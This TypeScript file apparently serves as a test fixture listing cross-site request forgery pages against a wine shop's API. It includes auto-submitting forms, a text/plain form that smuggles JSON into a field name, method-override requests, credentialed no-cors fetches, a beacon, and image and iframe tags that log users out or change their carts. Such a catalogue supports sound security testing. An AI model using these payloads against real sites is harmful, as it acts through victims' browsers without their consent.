type Forgery = { name: string; page: (shop: string, wine: number) => string }

export const toFieldHtml = (name: string, value: string) =>
  `<input name='${name}' value='${value.replaceAll("'", '&#39;')}'>`
export const toFormHtml = (action: string, encoding: string, fields: string, method = 'POST') =>
  `<form id=f method=${method} action="${action}" enctype="${encoding}">${fields}</form><script>f.submit()</script>`
const toScriptHtml = (text: string) => `<script>${text}</script>`
export const toItemsJson = (wine: number) => `{"items":[{"idProduct":${wine},"qty":1}]`
export const writeMethods = ['POST', 'PUT', 'PATCH', 'DELETE']

/** Requests that a hostile page can make its visitor's browser send. */
export const forgeries: Forgery[] = [
  {
    name: 'form',
    page: (shop, wine) =>
      toFormHtml(
        `${shop}/api/v1/cart/add`,
        'application/x-www-form-urlencoded',
        toFieldHtml('items[0][idProduct]', String(wine)),
      ),
  },
  {
    name: 'form as text',
    page: (shop, wine) =>
      toFormHtml(`${shop}/api/v1/cart/add`, 'text/plain', toFieldHtml(`${toItemsJson(wine)},"x":"`, '"}')),
  },
  {
    name: 'multipart form',
    page: (shop, wine) =>
      toFormHtml(`${shop}/api/v1/cart/add`, 'multipart/form-data', toFieldHtml('items', String(wine))),
  },
  {
    name: 'form that overrides its method',
    page: (shop) =>
      toFormHtml(
        `${shop}/api/v1/cart/modify?_method=PUT`,
        'application/x-www-form-urlencoded',
        toFieldHtml('_method', 'PUT'),
      ),
  },
  {
    name: 'form to log out',
    page: (shop) => toFormHtml(`${shop}/api/v1/logout`, 'text/plain', toFieldHtml('a', 'b')),
  },
  {
    name: 'fetch without cors',
    page: (shop, wine) =>
      toScriptHtml(
        `fetch('${shop}/api/v1/cart/add',{method:'POST',mode:'no-cors',credentials:'include',headers:{'content-type':'text/plain'},body:'${toItemsJson(wine)}}'})`,
      ),
  },
  {
    name: 'fetch that asks first',
    page: (shop, wine) =>
      toScriptHtml(
        `fetch('${shop}/api/v1/cart/add',{method:'POST',credentials:'include',headers:{'content-type':'application/json','x-business-type':'B2C'},body:'${toItemsJson(wine)}}'}).catch(()=>0)`,
      ),
  },
  {
    name: 'fetch by every method',
    page: (shop) =>
      toScriptHtml(
        `for (const method of ${JSON.stringify(writeMethods)}) fetch('${shop}/api/v1/cart/delete-all',{method,credentials:'include'}).catch(()=>0)`,
      ),
  },
  {
    name: 'beacon',
    page: (shop, wine) =>
      toScriptHtml(`navigator.sendBeacon('${shop}/api/v1/cart/add','${toItemsJson(wine)}}')`),
  },
  {
    name: 'pictures',
    page: (shop) =>
      ['logout', 'cart/delete-all', 'cart/add', 'cart/modify?_method=PUT']
        .map((path) => `<img src="${shop}/api/v1/${path}">`)
        .join(''),
  },
  { name: 'frame', page: (shop) => `<iframe src="${shop}/api/v1/logout"></iframe>` },
]
